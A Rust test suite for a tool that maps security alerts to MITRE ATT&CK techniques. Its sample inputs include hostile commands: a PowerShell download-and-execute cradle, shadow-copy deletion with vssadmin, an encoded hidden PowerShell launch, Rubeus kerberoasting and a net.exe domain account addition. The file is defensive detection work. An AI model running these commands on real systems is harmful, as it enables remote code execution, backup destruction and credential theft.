//! Each signal on the real enterprise ATT&CK 18.1 catalog, and the guarantees of every answer:
//! no revoked or deprecated technique, evidence for every suggestion, valid spans, limits.
mod common;

use common::{catalog, engine, find, ids, labelled, req};
use mitre_suggest::{DEFAULT_RULES, DEFAULT_THRESHOLD, Engine, Error, EvidenceKind, Request, Suggestion};

fn has(s: &Suggestion, kind: EvidenceKind) -> bool {
    s.evidence.iter().any(|e| e.kind == kind)
}

fn span_text<'a>(r: &'a Request, sp: &mitre_suggest::Span) -> &'a str {
    let value = if sp.field == "text" {
        r.text.as_str()
    } else {
        let i: usize = sp.field.trim_start_matches("observables[").trim_end_matches(']').parse().expect("observables[i]");
        r.observables[i].value.as_str()
    };
    &value[sp.start..sp.end]
}

// ---------------------------------------------------------------- 1. explicit IDs

#[test]
fn explicit_current_ids_are_suggested_with_their_span() {
    let r = req("Triage note: matches T1059.001 and also t1105 (ingress tool transfer).", &[]);
    let s = engine().suggest(&r);
    for (id, written) in [("T1059.001", "T1059.001"), ("T1105", "t1105")] {
        let x = find(&s, id).unwrap_or_else(|| panic!("{id} in {:?}", ids(&s)));
        assert!(x.score >= 0.95, "{id}: {}", x.score);
        let e = x.evidence.iter().find(|e| e.kind == EvidenceKind::AttackId).expect("ID evidence");
        assert_eq!(span_text(&r, e.span.as_ref().unwrap()), written);
    }
    let mut top2 = ids(&s)[..2].to_vec();
    top2.sort();
    assert_eq!(top2, ["T1059.001", "T1105"]);
}

#[test]
fn a_revoked_id_suggests_its_replacement_and_says_so() {
    let r = req("Legacy SIEM rule tagged T1086 fired on WS-FIN-0231", &[]);
    let a = engine().analyze(&r);
    assert!(find(&a.suggestions, "T1086").is_none());
    let x = find(&a.suggestions, "T1059.001").expect("the replacement of T1086");
    let e = x.evidence.iter().find(|e| e.kind == EvidenceKind::RevokedAttackId).expect("revoked-ID evidence");
    assert!(e.detail.contains("T1086") && e.detail.contains("revoked") && e.detail.contains("T1059.001"), "{}", e.detail);
    assert_eq!(span_text(&r, e.span.as_ref().unwrap()), "T1086");
    assert!(x.score >= 0.85);
    assert!(a.notes.iter().any(|n| n.kind == EvidenceKind::RevokedAttackId && n.detail.contains("T1086")));
    // Rundll32 moved under Signed Binary Proxy Execution
    assert!(find(&engine().suggest(&req("old tag T1085", &[])), "T1218.011").is_some());
}

#[test]
fn deprecated_and_unknown_ids_give_notes_not_suggestions() {
    let a = engine().analyze(&req("Tagged T1064 and T9999 by an old integration", &[]));
    assert!(find(&a.suggestions, "T1064").is_none() && find(&a.suggestions, "T9999").is_none());
    let kinds: Vec<EvidenceKind> = a.notes.iter().map(|n| n.kind).collect();
    assert_eq!(kinds, [EvidenceKind::DeprecatedAttackId, EvidenceKind::UnknownAttackId]);
    assert!(a.notes[0].detail.contains("deprecated") && a.notes[0].detail.contains("not suggested"));
    // no ID-based evidence anywhere
    assert!(a.suggestions.iter().all(|s| !has(s, EvidenceKind::AttackId) && !has(s, EvidenceKind::RevokedAttackId)));
}

// ---------------------------------------------------------------- 2. software, groups, campaigns

/// The live techniques `entity` (an ATT&CK ID) uses, per the catalog.
fn uses(attack_id: &str) -> Vec<String> {
    let c = catalog();
    let e = c.software.iter().chain(&c.groups).chain(&c.campaigns).find(|e| e.attack_id.as_deref() == Some(attack_id) && !e.revoked).expect("entity");
    let mut v: Vec<String> = c
        .live_from(&e.stix_id, "uses", |o| matches!(o, mitre_attack::catalog::ObjectRef::Technique(_)))
        .map(|r| c.technique_by_stix_id(&r.target_ref).unwrap().attack_id.clone())
        .collect();
    v.sort();
    v.dedup();
    v
}

#[test]
fn a_software_alias_leads_to_the_techniques_it_uses() {
    // Pinkslipbot is an alias of QakBot (S0650)
    let r = req("Mail gateway sandbox: attachment behaves like Pinkslipbot", &[]);
    let cands = engine().candidates(&r);
    let named: Vec<&str> = cands
        .iter()
        .filter(|c| c.evidence.iter().any(|e| e.kind == EvidenceKind::Software && e.detail.contains("QakBot (S0650)")))
        .map(|c| c.technique.as_str())
        .collect();
    let expected = uses("S0650");
    assert!(expected.len() > 20);
    assert_eq!(named.len(), expected.len(), "every technique QakBot uses is a candidate");
    for c in cands.iter().filter(|c| named.contains(&c.technique.as_str())) {
        let e = c.evidence.iter().find(|e| e.kind == EvidenceKind::Software).unwrap();
        assert_eq!(span_text(&r, e.span.as_ref().unwrap()), "Pinkslipbot");
        assert!(c.features.named > 0.0 && c.features.named <= 1.0);
    }
    // specificity: a technique few software use weighs more than one most software use
    let spec = |id: &str| cands.iter().find(|c| c.technique == id).map(|c| c.features.named).unwrap_or(0.0);
    assert!(spec("T1105") > 0.0 && spec("T1105") < 0.5, "T1105 is used by hundreds of software: {}", spec("T1105"));
    let rare = cands.iter().filter(|c| named.contains(&c.technique.as_str())).map(|c| c.features.named).fold(0.0, f64::max);
    assert!(rare > 2.0 * spec("T1105"));
}

#[test]
fn software_in_observables_and_groups_and_campaigns_are_named() {
    let r = req("", &[("command_line", r#"C:\ProgramData\Rubeus.exe kerberoast /nowrap"#)]);
    let s = engine().suggest(&r);
    let x = find(&s, "T1558.003").expect("Kerberoasting");
    assert!(x.evidence.iter().any(|e| e.kind == EvidenceKind::Software && e.detail.contains("Rubeus") && e.span.as_ref().unwrap().field == "observables[0]"));

    let cands = engine().candidates(&req("Threat intel: infrastructure overlaps with Cozy Bear (also tracked as Midnight Blizzard)", &[]));
    assert!(cands.iter().any(|c| c.evidence.iter().any(|e| e.kind == EvidenceKind::Group && e.detail.contains("APT29 (G0016)"))));
    let cands = engine().candidates(&req("IOC sweep for the SolarWinds Compromise found a hit", &[]));
    assert!(cands.iter().any(|c| c.evidence.iter().any(|e| e.kind == EvidenceKind::Campaign && e.detail.contains("C0024"))));
}

#[test]
fn short_and_common_names_do_not_match_ordinary_words() {
    let entity_kinds = [EvidenceKind::Software, EvidenceKind::Group, EvidenceKind::Campaign];
    for text in [
        "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.23/a')",
        "Cobalt dust detected by the air quality sensor; net income report attached",
        "Carbon Black quarantined a file at 10:02; the incident responder took the page offline",
        "User played a video in the Play store app; route table updated at noon",
        "the .NET runtime crashed while the ping monitor was down",
    ] {
        let cands = engine().candidates(&req(text, &[]));
        let named: Vec<String> = cands.iter().flat_map(|c| c.evidence.iter()).filter(|e| entity_kinds.contains(&e.kind)).map(|e| e.detail.clone()).collect();
        assert!(named.is_empty(), "{text}: {:?}", named.first());
    }
    // ... but the same names count as programs
    let cands = engine().candidates(&req("", &[("command_line", "net.exe user helpdesk_tmp /add /domain"), ("process", r"C:\Windows\System32\PING.EXE")]));
    let details: Vec<&str> = cands.iter().flat_map(|c| c.evidence.iter()).filter(|e| e.kind == EvidenceKind::Software).map(|e| e.detail.as_str()).collect();
    assert!(details.iter().any(|d| d.contains("Net (S0039)")));
    assert!(details.iter().any(|d| d.contains("Ping (S0097)")));
    let cands = engine().candidates(&req("Files encrypted; note matches Play ransomware", &[]));
    assert!(cands.iter().any(|c| c.evidence.iter().any(|e| e.kind == EvidenceKind::Group || e.kind == EvidenceKind::Software)));
}

// ---------------------------------------------------------------- 3. procedure examples

#[test]
fn procedure_examples_point_to_their_technique() {
    // no rule covers this; ATT&CK's procedure examples describe keyboard-layout checks
    let r = req("Sample read the keyboard layout and the system language and exited on hosts with a Russian or Ukrainian locale", &[]);
    let s = engine().suggest(&r);
    assert!(s.iter().all(|x| !has(x, EvidenceKind::Rule)), "no rule is involved");
    let x = find(&s, "T1614.001").unwrap_or_else(|| panic!("System Language Discovery in {:?}", ids(&s)));
    assert!(s.iter().position(|y| y.technique == "T1614.001").unwrap() < 3);
    let e = x.evidence.iter().find(|e| e.kind == EvidenceKind::Procedure).expect("procedure evidence");
    assert!(e.detail.contains("procedure example of") && e.detail.contains("shared terms"), "{}", e.detail);
    let sp = e.span.as_ref().expect("the span of the most telling shared term");
    assert!(!span_text(&r, sp).is_empty());
}

#[test]
fn detection_strategies_are_part_of_the_procedure_signal() {
    let cands = engine()
        .candidates(&req("Detection of spoofed user-agent strings from scripted clients", &[("user_agent", "Mozilla/5.0 (compatible; python-requests)")]));
    assert!(cands.iter().any(|c| c.evidence.iter().any(|e| e.kind == EvidenceKind::Detection && e.detail.contains("detection strategy DET"))));
}

// ---------------------------------------------------------------- 5. description similarity

#[test]
fn technique_descriptions_match_by_bm25() {
    let r = req("Callbacks in the thread local storage section of the PE ran code before the entry point", &[]);
    let s = engine().suggest(&r);
    assert!(s.iter().all(|x| !has(x, EvidenceKind::Rule)));
    let x = find(&s, "T1055.005").unwrap_or_else(|| panic!("Thread Local Storage in {:?}", ids(&s)));
    assert_eq!(s[0].technique, "T1055.005", "{:?}", ids(&s));
    let e = x.evidence.iter().find(|e| e.kind == EvidenceKind::Similarity).expect("similarity evidence");
    assert!(e.detail.contains("rank 1"), "{}", e.detail);
    // the baseline ranks by the same index
    assert_eq!(engine().baseline_ranking(&r, 3)[0].0, "T1055.005");
}

// ---------------------------------------------------------------- 4. rules (see also tests/rules.rs)

#[test]
fn rules_apply_to_their_observable_types_only() {
    // vssadmin-style shadow deletion is a command-line rule: a file name does not trigger it
    let cl = engine().suggest(&req("", &[("command_line", "vssadmin.exe delete shadows /all /quiet")]));
    assert_eq!(cl[0].technique, "T1490");
    assert!(has(&cl[0], EvidenceKind::Rule));
    let file = engine().candidates(&req("", &[("file", "vssadmin.exe delete shadows /all /quiet")]));
    assert!(file.iter().all(|c| c.features.rule == 0.0));
}

#[test]
fn more_evidence_never_lowers_a_score() {
    let base = req("Suspicious PowerShell on WS-ENG-044", &[]);
    let more = req(
        "Suspicious PowerShell on WS-ENG-044",
        &[("command_line", "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBi")],
    );
    let score = |r: &Request, id: &str| find(&engine().suggest(r), id).map_or(0.0, |s| s.score);
    assert!(score(&more, "T1059.001") >= score(&base, "T1059.001"));
    // and it is enough to auto-map
    assert!(score(&more, "T1059.001") >= mitre_suggest::DEFAULT_THRESHOLD, "{}", score(&more, "T1059.001"));
}

// ---------------------------------------------------------------- every answer

fn check_answer(r: &Request, s: &[Suggestion]) {
    let c = catalog();
    assert!(s.len() <= r.limit as usize);
    for w in s.windows(2) {
        assert!(w[0].score >= w[1].score, "sorted by score");
    }
    for x in s {
        let t = c.technique_by_attack_id(&x.technique).expect("a catalog technique");
        assert!(!t.revoked && !t.deprecated, "{} is not live", x.technique);
        assert_eq!((x.name.as_str(), &x.tactics), (t.name.as_str(), &t.tactics));
        assert!((0.0..=1.0).contains(&x.score));
        assert!(!x.evidence.is_empty(), "{} has no evidence", x.technique);
        for e in &x.evidence {
            assert!(!e.detail.is_empty());
            if let Some(sp) = &e.span {
                assert!(sp.start < sp.end, "{e:?}");
                assert!(!span_text(r, sp).is_empty());
            }
        }
    }
}

#[test]
fn every_labelled_answer_is_live_evidenced_sorted_and_limited() {
    for a in labelled() {
        for limit in [1, 5, 20] {
            let r = a.request(limit);
            let s = engine().suggest(&r);
            check_answer(&r, &s);
            if limit == 1 {
                assert!(s.len() <= 1);
            }
        }
    }
    for text in ["T1086 T1064 T1085 T1193 T9999", "T1003.001, T1003.999 and T1000"] {
        let r = req(text, &[]);
        check_answer(&r, &engine().suggest(&r));
    }
}

#[test]
fn answers_are_deterministic() {
    let a = &labelled()[5];
    assert_eq!(engine().suggest(&a.request(20)), engine().suggest(&a.request(20)));
}

#[test]
fn benign_alerts_score_low() {
    // an inventory job: the best suggestion stays far from the auto-mapping threshold of a rule hit
    let s = engine().suggest(&req("Nightly inventory job completed on 412 hosts", &[]));
    assert!(s.iter().all(|x| x.score < 0.5), "{:?}", s.first().map(|x| (&x.technique, x.score)));
}

// ---------------------------------------------------------------- building

#[test]
fn rule_tables_are_checked_against_the_catalog() {
    let table = |technique: &str| {
        format!(
            "version: 1\nrules:\n- id: 'r'\n  technique: '{technique}'\n  pattern: 'zzz'\n  applies_to: [text]\n  weight: 0.5\n  rationale: 'r'\n  examples:\n  - 'zzz'\n  counter_examples:\n  - 'z'\n"
        )
    };
    // revoked: follows the replacement, with a warning
    let e = Engine::new(catalog(), &table("T1086")).unwrap();
    assert_eq!(e.rules().count(), 1);
    assert!(e.warnings()[0].contains("T1059.001"));
    assert_eq!(e.suggest(&req("zzz", &[]))[0].technique, "T1059.001");
    // deprecated or unknown: left out, with a warning
    for t in ["T1064", "T1999"] {
        let e = Engine::new(catalog(), &table(t)).unwrap();
        assert_eq!((e.rules().count(), e.warnings().len()), (0, 1));
    }
    assert!(matches!(Engine::new(catalog(), "rules: ["), Err(Error::Rules(_))));
    assert!(Engine::new(catalog(), DEFAULT_RULES).unwrap().warnings().is_empty());
}

#[test]
fn the_field_names_of_a_query_are_not_read_as_prose() {
    // a camel-case field name gives its words, but not those that only say where a value
    // sits: "EventCode" and "WinEventLog" made every Windows search resemble "clear event logs"
    let s = engine().suggest(&req("sourcetype=WinEventLog:Security EventCode=4698", &[]));
    assert!(s.iter().all(|x| x.score < DEFAULT_THRESHOLD), "nothing to auto-map: {:?}", s.iter().map(|x| (&x.technique, x.score)).collect::<Vec<_>>());
    // the values and the meaningful field names still count: a Kerberoasting search
    let s = engine().suggest(&req("index=wineventlog EventCode=4769 Ticket_Encryption_Type=0x17", &[]));
    assert_eq!(s[0].technique, "T1558.003", "{:?}", ids(&s));
    let s = engine().suggest(&req("eventSource: cloudtrail.amazonaws.com eventName: StopLogging", &[]));
    assert!(s[0].technique == "T1562.008" && s[0].score >= DEFAULT_THRESHOLD, "{:?}", ids(&s));
}
